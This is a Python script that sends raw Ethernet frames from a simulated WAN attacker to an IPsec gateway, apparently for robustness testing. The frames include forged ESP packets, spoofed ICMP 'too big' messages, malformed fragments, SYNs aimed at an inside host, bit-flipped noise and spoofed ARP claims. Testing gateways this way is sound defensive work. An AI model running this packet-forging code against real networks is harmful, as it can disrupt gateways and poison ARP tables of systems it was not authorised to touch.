#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Frames of an attacker on the WAN to a gateway: one kind after the other.

    attack.py INTERFACE MAC OWN GATEWAY FRAMES SPI

Sends FRAMES frames from address OWN to the station MAC with address GATEWAY, and prints how many.
"""
import os
import random
import socket
import struct
import sys
import time

BURST = 20  # frames, then a rest: the attack must not compete with the hosts for the CPU
REST_S = 0.01


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(proto, payload, source, to, offset=0, ident=None):
    ident = random.randrange(65536) if ident is None else ident
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, offset, 64, proto, 0, source, to)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def icmp(kind, code, rest):
    head = struct.pack("!BBH", kind, code, 0)
    return struct.pack("!BBH", kind, code, checksum(head + rest)) + rest


def esp(spi, own, to):
    """Of an SA there is, or of none; the ICV is wrong."""
    spi = random.choice([spi, random.getrandbits(32)])
    head = struct.pack("!II", spi, random.choice([random.randrange(1, 5000), random.getrandbits(32)]))
    return ipv4(50, head + os.urandom(random.choice([0, 24, 64, 1000])), own, to)


def too_big(spi, own, to):
    """A forged word about the path: quotes an ESP packet of the gateway."""
    quoted = ipv4(50, struct.pack("!II", spi, random.randrange(1, 5000)) + bytes(8), to, own)
    return ipv4(1, icmp(3, 4, struct.pack("!HH", 0, random.choice([68, 576, 1400])) + quoted), own, to)


def fragment(_, own, to):
    offset = random.choice([0x2000, 0x2001, 0x20A0, 10])
    return ipv4(17, os.urandom(8 * random.randrange(1, 100)), own, to, offset)


def ping(_, own, to):
    return ipv4(1, icmp(8, 0, os.urandom(12)), own, to)


def udp(_, own, to):
    ports = struct.pack("!HHHH", random.randrange(65536), random.choice([500, 4500, 53, 9]), 20, 0)
    return ipv4(17, ports + os.urandom(12), own, to)


def syn(_, own, to):
    inside = socket.inet_aton("10.1.0.2")
    head = struct.pack("!HHIIBBHHH", random.randrange(65536), 80, random.getrandbits(32), 0, 0x50, 2, 1000, 0, 0)
    return ipv4(6, head, own, random.choice([to, inside]))


def noise(_, own, to):
    packet = bytearray(ipv4(random.randrange(256), os.urandom(2 * random.randrange(40)), own, to))
    packet[random.randrange(len(packet))] ^= 1 << random.randrange(8)
    return bytes(packet)


def arp(_, own, to):
    """Requests and claims of strangers, each of another address."""
    other = to[:3] + bytes([random.randrange(3, 255)])
    mac = b"\x02" + os.urandom(5)
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, random.choice([1, 2])) + mac + other + bytes(6) + to


KINDS = [esp, too_big, fragment, ping, udp, syn, noise, arp]


def main():
    interface, mac, own, to, frames, spi = sys.argv[1:7]
    mac = bytes.fromhex(mac.replace(":", ""))
    own, to, spi = socket.inet_aton(own), socket.inet_aton(to), int(spi, 0)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((interface, 0))
    source = b"\x02\x66\x66\x66\x66\x66"
    for i in range(int(frames)):
        kind = KINDS[i % len(KINDS)]
        ethertype = b"\x08\x06" if kind is arp else b"\x08\x00"
        sock.send((mac + source + ethertype + kind(spi, own, to)).ljust(60, b"\0"))
        if i % BURST == 0:
            time.sleep(REST_S)
    print(frames)


main()
